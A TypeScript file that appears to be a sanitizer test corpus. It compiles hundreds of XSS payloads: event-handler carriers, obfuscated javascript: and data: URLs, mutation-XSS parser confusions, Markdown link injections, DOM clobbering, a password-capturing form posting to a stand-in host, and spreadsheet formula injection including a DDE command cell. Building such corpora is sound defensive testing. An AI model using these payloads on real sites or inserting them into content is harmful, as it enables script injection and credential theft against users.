// What people send who want a page to do something that is not the page's. Every text calls `pwned()`, asks elsewhere.invalid for something, or makes an
// element that would. The classes are those of public collections; the texts are written here.

const call = 'pwned()'
const foreign = 'https://elsewhere.invalid'

const handlers = [
  'onload', 'onerror', 'onclick', 'onauxclick', 'ondblclick', 'onmouseover', 'onmouseenter', 'onpointerover', 'onfocus', 'onfocusin', 'onblur', 'ontoggle', 'onbeforetoggle', 'onanimationstart', 'onanimationend',
  'ontransitionrun', 'onscroll', 'onscrollend', 'onwheel', 'onkeydown', 'onbeforeinput', 'oninput', 'onchange', 'oninvalid', 'onsubmit', 'onpaste', 'oncopy', 'onselectstart', 'ondragstart',
  'oncontextmenu', 'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'onpageshow', 'onhashchange', 'onmessage', 'onbegin', 'onloadstart', 'oncanplay', 'onplay', 'onstart',
]

const carriers = [
  (on: string) => `<img src=x ${on}=${call}>`,
  (on: string) => `<svg ${on}=${call}><animate attributeName=x dur=1s ${on}=${call}></svg>`,
  (on: string) => `<p tabindex=0 style="overflow:scroll" ${on}=${call}>words</p>`,
  (on: string) => `<a href=# ${on.toUpperCase()}="${call}">words</a>`,
  (on: string) => `<details open ${on}='${call}'><summary ${on}='${call}'>words</summary></details>`,
  (on: string) => `"><input autofocus ${on}=${call}>`,
  (on: string) => `' ${on}='${call}' x='`,
  (on: string) => `<x-y/${on}\f=\n${call}//`,
]

const events = handlers.map((on, place) => carriers[place % carriers.length]?.(on) ?? '')
const everyCarrier = carriers.flatMap((carry) => ['onmouseover', 'onfocus', 'onerror', 'ontoggle'].map(carry))

/** Elements that a text may have, with what they may not: it is the attribute that has to go, not the element. */
const welcome = [
  ...'p div blockquote pre code ul ol li section em strong del sub sup kbd q cite h2 h4 figure figcaption details summary dl table td th small abbr time ruby bdi'.split(' ').map((name) => `<${name} onmouseover=${call} onfocus=${call} tabindex=1 style="background:url(${foreign}/s)" class="sheet" name=cookie id=main role=alert data-x=y contenteditable>words</${name}>`),
  ...['/media/0123456789abcdef01234567-1600x900.webp', `${foreign}/p.png`].map((src) => `<img src="${src}" alt=words onerror=${call} onload=${call} srcset="${foreign}/s 2x" style="position:fixed" usemap=#m crossorigin referrerpolicy=unsafe-url>`),
  ...['https://e.invalid/', '/posts/x', '#x', 'mailto:rae@example.org'].map((href) => `<a href="${href}" onclick=${call} onmouseover=${call} target=_top ping="${foreign}/ping" download rel=opener style="position:fixed;inset:0" accesskey=a>words</a>`),
]

/** Addresses that run, or lead out of the site unseen. */
const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `java\rscript:${call}`, `\x01javascript:${call}`, `\x00javascript:${call}`, `javascript\x00:${call}`,
  `&#106;avascript:${call}`, `&#x6A&#x61;vascript:${call}`, `javascript&colon;${call}`, `javascript&#58${call}`, `java&Tab;script:${call}`, `java&NewLine;script&colon;${call}`, `&#1;javascript:${call}`,
  `java&#173;script:${call}`, `\u2028javascript:${call}`, `\u00a0javascript:${call}`, `\ufeffjavascript:${call}`, `\u202ejavascript:${call}`, `javascript://elsewhere.invalid/%0a${call}`, `javascript:/*--></title></style></textarea></script>*/${call}`,
  `data:text/html,<script>opener.${call}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, `DATA:,x`, `vbscript:${call}`,
  `view-source:javascript:${call}`, `feed:javascript:${call}`, `livescript:${call}`, `blob:${foreign}/x`, `filesystem:${foreign}/x`, `jar:${foreign}!/x`, `about:blank`, `file:///etc/passwd`, `ms-its:x`, `intent://x#Intent;end`,
  `//elsewhere.invalid/x`, `\\\\elsewhere.invalid\\x`, `/\\elsewhere.invalid/x`, `/\t/elsewhere.invalid/x`, `https:elsewhere.invalid`, `${foreign}@localhost/`, `\uff4aavascript:${call}`, `%6aavascript:${call}`,
]

const places = [
  (url: string) => `<a href="${url}">words</a>`,
  (url: string) => `<a href='${url}' target=_blank ping="${foreign}/ping">words</a>`,
  (url: string) => `<form action="${url}"><button>words</button></form>`,
  (url: string) => `<button form=reply formaction="${url}">words</button>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"><param name=movie value="${url}"></object><embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>words</text></a><use href="${url}#x"/><image href="${url}"/></svg>`,
  (url: string) => `<math href="${url}"><mtext>words</mtext><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  (url: string) => `<img src="${url}" srcset="${url} 2x" lowsrc="${url}" dynsrc="${url}">`,
  (url: string) => `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}"><script src="${url}"></script>`,
  (url: string) => `<map name=m><area shape=default href="${url}"></map><img usemap=#m src=/favicon.ico>`,
  (url: string) => `[words](${url})`,
  (url: string) => `[words](<${url}> "${url}")`,
  (url: string) => `![words](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `[words][r]\n\n[r]: ${url}`,
]

const schemes = addresses.flatMap((url, place) => [0, 5, 11].map((step) => places[(place + step) % places.length]?.(url) ?? ''))
const everyPlace = places.map((write) => write(`javascript:${call}`))

/** Two parsers, or one parser twice, that disagree on what is text and what is an element. */
const confusion = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><title><style><img src="</style><img src=x onerror=${call}//">`,
  `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><script>alert&#40;1&#41;;pwned&#40;&#41;</script></svg>`,
  `<svg><set attributeName=href to="javascript:${call}" begin=0s><a><text y=9>words</text></a></set></svg>`,
  `<svg><animate attributeName=href values="javascript:${call}" begin=0s /></svg>`,
  `<svg><p><style><g title="</style><img src onerror=${call}>">`,
  `<svg></br><style><a title="</style><img src onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<noscript><style></noscript><img src=x onerror=${call}>`,
  `<noscript><!-- </noscript><img src=x onerror=${call}> -->`,
  `<template><img src=x onerror=${call}></template>`,
  `<div><template shadowrootmode=open><style>:host{background:url(${foreign}/shadow)}</style><img src=x onerror=${call}></template></div>`,
  `<style><style/><img src=x onerror=${call}>`,
  `<style>@import '${foreign}/x.css'; body{background:url(${foreign}/b)}</style>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `</textarea></title></style></noscript></template></select></iframe></xmp><img src=x onerror=${call}>`,
  `<title></title><img src=x onerror=${call}>`,
  `<xmp><img src=x onerror=${call}></xmp><xmp></xmp><img src=x onerror=${call}>`,
  `<noembed><img title="</noembed><img src onerror=${call}>"></noembed>`,
  `<noframes><img title="</noframes><img src onerror=${call}>"></noframes>`,
  `<iframe><img title="</iframe><img src onerror=${call}>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<select><option><style></option></select><img src=x onerror=${call}></style>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<select><iframe></select><img src onerror=${call}>`,
  `<table><caption><svg><desc></caption><img src=x onerror=${call}>`,
  `<table><td background="javascript:${call}"><tr><input type=hidden onfocus=${call}>`,
  `<p><table><p><img src=x onerror=${call}>`,
  `<b><p></b><a href=x><a href="javascript:${call}">words</a>`,
  `<option><p><b><option><img src=x onerror=${call}>`,
  `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
  `<body onload=${call}><html onmouseover=${call}><head><base href="${foreign}/">`,
  `<plaintext><img src=x onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<image src=x onerror=${call}>`,
  `<isindex action="javascript:${call}" type=image>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--!> <img src=x onerror=${call}> -->`,
  `<!-- --!><img src=x onerror=${call}>`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${call}>"></svg>`,
  `<?xml-stylesheet href="javascript:${call}"?><img src=x onerror=${call}>`,
  `<!doctype html [<!ENTITY x "<script>${call}</script>">]>&x;`,
  `</p title="<img src=x onerror=${call}>">`,
  `</ img src=x onerror=${call}>`,
  `<img src="x\`><img src=x onerror=${call}>">`,
  '<img src=`x` onerror=`pwned()`>',
  `<img """><script>${call}</script>">`,
  `<img src=x:x title="a\u0000" onerror\u0000=${call}>`,
  `<\u0000script>${call}</\u0000script>`,
  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  `<sCrIpT\n>${call}</sCrIpT\t>`,
  `<script/x>${call}</script\u000c>`,
  `<script>/*<!--<script>*/${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script x="</script>${call}">`,
  `</script><script>${call}</script>`,
  `{"@context":"x"}</script><script>${call}</script><script type="application/ld+json">{`,
  `\u2028</script\u2029><script>${call}</script>\u2028`,
  `\\u003c/script>\\u003cscript>${call}`,
  `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `]]>&lt;script&gt;${call}&lt;/script&gt;<![CDATA[`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\ufeff+/v8-<script>${call}</script>`,
  `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `&lt;/title&gt;&lt;img src=x onerror=${call}&gt;`,
]

/** What needs no script: styles, loads, forms that take what is typed, names that take the place of the page's own. */
const withoutScript = [
  `<p style="background:url(${foreign}/b);position:fixed;inset:0;z-index:9999">words</p>`,
  `<p style="width:expression(${call});behavior:url(${foreign}/x.htc);-moz-binding:url(${foreign}/x#y)">words</p>`,
  `<p style="--x:url(${foreign}/v);background:var(--x);background-image:image-set('${foreign}/s' 1x)">words</p>`,
  `<p style='list-style:url("${foreign}/l")' class="sheet notice prose comment-text">words</p>`,
  `<meta http-equiv=refresh content="0;url=${foreign}/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'"><meta name=referrer content=unsafe-url>`,
  `<base href="${foreign}/" target=_blank>`,
  `<link rel=dns-prefetch href=//elsewhere.invalid><link rel=preload as=image href=${foreign}/p><link rel=manifest href=${foreign}/m>`,
  `<img srcset="${foreign}/1 1x, ${foreign}/2 2x" src=${foreign}/0 sizes=1px crossorigin>`,
  `<picture><source srcset=${foreign}/p><img src=/media/x.webp></picture>`,
  `<video poster=${foreign}/v src=${foreign}/w autoplay><track src=${foreign}/t default><source src=${foreign}/s></video>`,
  `<audio src=${foreign}/a autoplay controls></audio>`,
  `<input type=image src=${foreign}/i><input type=password name=password autocomplete=current-password>`,
  `<form id=reply action=${foreign}/take method=post><textarea name=body autofocus></textarea><input type=submit></form>`,
  `<button type=submit form=reply formaction=${foreign}/take formmethod=get>words</button>`,
  `<body background=${foreign}/bg><table background=${foreign}/tb><tr background=${foreign}/tr><td background=${foreign}/td>words`,
  `<html manifest=${foreign}/manifest><applet code=${foreign}/a></applet><bgsound src=${foreign}/bg>`,
  `<svg><filter><feImage href=${foreign}/f /></filter><image href=${foreign}/g /><use href=${foreign}/u#x /></svg>`,
  `<svg style="fill:url(${foreign}/x#y)"><rect width=9 height=9 mask=url(${foreign}/m#n) /></svg>`,
  `<portal src=${foreign}/portal></portal><fencedframe></fencedframe><frame src=${foreign}>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${foreign}/s"]}]}</script>`,
  `<script type=importmap>{"imports":{"x":"${foreign}/x"}}</script><script type=module>import 'x'</script>`,
  `<a id=attributes>words</a><a id=attributes name=x>words</a><input name=attributes><input name=parentNode>`,
  `<img name=cookie><form name=body><img name=getElementById><img name=querySelector></form><a id=defaultView href=x:y>words</a>`,
  `<p id=conversation>words</p><p id=main>words</p><p id=reply>words</p><p id=__next>words</p><p id=constructor>words</p><p id=__proto__>words</p>`,
  `<iframe name=self></iframe><iframe name=opener></iframe><object name=documentElement></object><embed name=location>`,
  `<p lang='x"><img src=x onerror=${call}>' dir='" onclick=${call} x="' id='" onclick=${call} x="'>words</p>`,
  `<p role=alert aria-live=assertive aria-label="${call}" contenteditable accesskey=x tabindex=1 is=x-y slot=z popover>words</p>`,
  `<button popovertarget=sheet command=show-modal commandfor=sheet>words</button><dialog open>words</dialog>`,
  `<p itemscope itemtype=${foreign} data-react-checksum=1 data-script=${call} ng-app v-html=${call} x-init=${call} hx-get=${foreign}>{{constructor.constructor('${call}')()}}</p>`,
  `<math><maction actiontype=toggle href=${foreign}>words</maction></math>`,
  `<time datetime='"><script>${call}</script>'>words</time><code class='language-"><img/src=x/onerror=${call}>'>words</code>`,
  `<td class="align-right fixed" colspan=99999999 rowspan=99999999>words</td><ol start=99999999999 type='"><script>'><li value='"x'>words`,
]

/** Markdown that ends where its writer did not say. */
const markdown = [
  `[words](javascript:${call})`, `[words]( javascript:${call})`, `[words](<javascript:${call}>)`, `[words](java\\script:${call})`, `[words](&#x6A;avascript:${call})`, `[words](\\&#106;avascript:${call})`, `[words](#"onclick="${call})`,
  `[words](https://e.invalid/"onmouseover="${call})`, `[words](https://e.invalid 'x" onclick="${call}')`, `[words](https://e.invalid "x' onclick='${call}")`, `<https://e.invalid/"onclick="${call}>`, `<javascript:${call}>`, `https://e.invalid/'onclick='${call}'`,
  `![x" onerror="${call}](/media/x.webp)`, `![x](/media/x.webp" onerror="${call})`, `![x](/media/x.webp "\\" onerror=${call} | <b onclick=${call}>")`, `![x](data:image/svg+xml,<svg/onload=${call}>)`, `![words](${foreign}/x.png)`, `[![x](${foreign}/y.png)](javascript:${call})`,
  `[^1]: <img src=x onerror=${call}>\n\nwords[^1]`, `[^"onclick="${call}]: x\n\nwords[^"onclick="${call}]`, `[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y`,
  `# <img src=x onerror=${call}>`, `## " onclick="${call}`, `|<img src=x onerror=${call}>|b|\n|-|-|\n|[x](javascript:${call})|"onclick=${call}|`,
  '```"onclick="pwned()\nx\n```', '```<img/src=x/onerror=pwned()>\nx\n```', '~~~ language-x" onclick=pwned()\nx\n~~~', '`<img src=x onerror=pwned()>`', '``</code><script>pwned()</script>``',
  `||<img src=x onerror=${call}>||`, `:::spoiler <img src=x onerror=${call}>\n<script>${call}</script>\n:::`, `:::spoiler "onclick="${call}\nx\n:::`, `||[x](javascript:${call})||`, `**<b onclick=${call}>**`, `~~</s><script>${call}</script>~~`,
  `<details open ontoggle=${call}>\n\n**x**\n\n</details>`, `<div>\n<script>\n\n${call}\n\n</script>\n</div>`, `<!--\n\n--> <img src=x onerror=${call}>`, `\\<img src=x onerror=${call}>`, `&lt;img src=x onerror=${call}>`, `<img\nsrc=x\nonerror=${call}\n>`,
  `a\u202e<img src=x onerror=${call}>\u202c`, `\u2066[words](javascript:${call})\u2069`, `a\u0000<script>${call}</script>`, `\ud800<script>${call}</script>`,
]

/** Cells that a spreadsheet would reckon. */
export const formulas = ['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u3000=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("https://elsewhere.invalid")', '=cmd|\'/c calc\'!A0', '"=1"', '\u200b=1', '\ufeff=1', '%0a=1']

/** Those that need their own place, since a parser may take what follows for a part of them. */
export const alone = [...confusion, ...withoutScript]

/** Every one of them, each once. */
export const hostileTexts: readonly string[] = [...new Set([...alone, ...markdown, ...welcome, ...events, ...everyCarrier, ...schemes, ...everyPlace])]
